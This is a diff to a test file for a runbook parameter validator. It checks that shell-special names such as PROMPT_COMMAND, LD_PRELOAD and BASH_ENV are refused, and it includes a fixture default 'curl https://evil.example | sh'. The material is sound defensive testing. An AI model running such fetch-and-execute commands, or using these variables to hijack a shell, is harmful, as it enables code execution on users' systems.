@@ -21,6 +21,29 @@ describe('params', () => {
   it.each([
     ['params: [A]', 'param-definition'],
     ['params:\n  lower_case: {}', 'param-name'],
+    ['params:\n  PATH: {}', 'param-name'],
+    ['params:\n  PROMPT_COMMAND: {}', 'param-name'],
+    ['params:\n  PS0: {}', 'param-name'],
+    ['params:\n  PS1: {}', 'param-name'],
+    ['params:\n  PS4: {}', 'param-name'],
+    ['params:\n  BASH_ENV: {}', 'param-name'],
+    ['params:\n  ENV: {}', 'param-name'],
+    ['params:\n  IFS: {}', 'param-name'],
+    ['params:\n  SHELLOPTS: {}', 'param-name'],
+    ['params:\n  BASHOPTS: {}', 'param-name'],
+    ['params:\n  CDPATH: {}', 'param-name'],
+    ['params:\n  GLOBIGNORE: {}', 'param-name'],
+    ['params:\n  HISTFILE: {}', 'param-name'],
+    ['params:\n  LD_PRELOAD: {}', 'param-name'],
+    ['params:\n  LD_LIBRARY_PATH: {}', 'param-name'],
+    ['params:\n  DYLD_INSERT_LIBRARIES: {}', 'param-name'],
+    ['params:\n  NODE_OPTIONS: {}', 'param-name'],
+    ['params:\n  ZDOTDIR: {}', 'param-name'],
+    ['params:\n  HOME: {}', 'param-name'],
+    ['params:\n  SHELL: {}', 'param-name'],
+    ['params:\n  TERM: {}', 'param-name'],
+    ['params:\n  FIREBREAK_SHELL_INTEGRATION: {}', 'param-name'],
+    ['params:\n  BASH_FUNC_X: {}', 'param-name'],
     ['params:\n  A: text', 'param-definition'],
     ['params:\n  A: { required: yes-please }', 'param-definition'],
     ['params:\n  A: { choices: [] }', 'param-definition'],
@@ -32,6 +55,13 @@ describe('params', () => {
     ['params:\n  A: { secret: true, default: hunter2 }', 'secret-in-file'],
   ])('reports %j as %s', (yaml, rule) => {
     expect(rules(yaml)).toEqual([rule]);
+  });
+
+  it('explains why a shell-special name is refused, and still accepts ordinary names that merely contain one', () => {
+    const { diagnostics, params } = runbookWith('params:\n  PROMPT_COMMAND: { default: "curl https://evil.example | sh" }');
+    expect(params).toEqual([]);
+    expect(diagnostics[0]!.message).toMatch(/PROMPT_COMMAND.*shell/);
+    expect(rules('params:\n  APP_PATH: {}\n  HOMEPAGE: {}\n  TERMINAL_ID: {}\n  SHELL_KIND: {}')).toEqual([]);
   });
 
   it('reads profiles and marks production ones', () => {
@@ -58,10 +88,10 @@ describe('params', () => {
     ['profiles:\n  staging: { values: [a] }', 'profile-definition'],
     ['profiles:\n  staging: { values: { HOTS: a } }', 'profile-unknown-param'],
     ['profiles:\n  staging: { values: { TOKEN: hunter2 } }', 'secret-in-file'],
-    ['profiles:\n  staging: { values: { ENV: moon } }', 'profile-invalid-value'],
+    ['profiles:\n  staging: { values: { STAGE: moon } }', 'profile-invalid-value'],
     ['profiles:\n  staging: { values: { HOST: "a b" } }', 'profile-invalid-value'],
   ])('reports profile %j as %s', (yaml, rule) => {
-    const params = 'params:\n  HOST: { pattern: "[a-z.]+" }\n  ENV: { choices: [staging, production] }\n  TOKEN: { secret: true }\n';
+    const params = 'params:\n  HOST: { pattern: "[a-z.]+" }\n  STAGE: { choices: [staging, production] }\n  TOKEN: { secret: true }\n';
     expect(rules(params + yaml)).toEqual([rule]);
   });
 
@@ -79,20 +109,20 @@ describe('params', () => {
 
 describe('resolveParams', () => {
   const { params, profiles } = runbookWith(
-    'params:\n  HOST: { required: true, pattern: "[a-z0-9.-]+" }\n  ENV: { choices: [staging, production], default: staging }\n  TOKEN: { secret: true, required: true }\n  NOTE: {}\nprofiles:\n  staging: { values: { HOST: db.staging } }\n  production: { values: { HOST: db.prod, ENV: production } }',
+    'params:\n  HOST: { required: true, pattern: "[a-z0-9.-]+" }\n  STAGE: { choices: [staging, production], default: staging }\n  TOKEN: { secret: true, required: true }\n  NOTE: {}\nprofiles:\n  staging: { values: { HOST: db.staging } }\n  production: { values: { HOST: db.prod, STAGE: production } }',
   );
   const runbook = { params, profiles };
 
   it('takes override, then profile, then default, then empty', () => {
     const resolved = resolveParams(runbook, 'production', { TOKEN: 's3cret', HOST: 'db-2.prod' });
-    expect(resolved.values).toEqual({ HOST: 'db-2.prod', ENV: 'production', TOKEN: 's3cret', NOTE: '' });
+    expect(resolved.values).toEqual({ HOST: 'db-2.prod', STAGE: 'production', TOKEN: 's3cret', NOTE: '' });
     expect(resolved.errors).toEqual({});
     expect(resolved.production).toBe(true);
   });
 
   it('reports per-field errors without repeating secret values', () => {
-    const resolved = resolveParams(runbook, 'staging', { HOST: 'BAD HOST', ENV: 'moon', TOKEN: '', EXTRA: 'x' });
-    expect(Object.keys(resolved.errors).sort()).toEqual(['ENV', 'EXTRA', 'HOST', 'TOKEN']);
+    const resolved = resolveParams(runbook, 'staging', { HOST: 'BAD HOST', STAGE: 'moon', TOKEN: '', EXTRA: 'x' });
+    expect(Object.keys(resolved.errors).sort()).toEqual(['EXTRA', 'HOST', 'STAGE', 'TOKEN']);
     expect(resolved.errors.TOKEN).toBe('TOKEN is required.');
     expect(resolved.errors.HOST).not.toContain('BAD HOST');
     expect(resolved.production).toBe(false);
@@ -101,7 +131,7 @@ describe('resolveParams', () => {
   it('reports an unknown profile and resolves defaults without one', () => {
     expect(resolveParams(runbook, 'moon').profileError).toContain('no profile "moon"');
     expect(resolveParams(runbook, undefined, { HOST: 'h', TOKEN: 't' })).toEqual({
-      values: { HOST: 'h', ENV: 'staging', TOKEN: 't', NOTE: '' },
+      values: { HOST: 'h', STAGE: 'staging', TOKEN: 't', NOTE: '' },
       errors: {},
       production: false,
     });
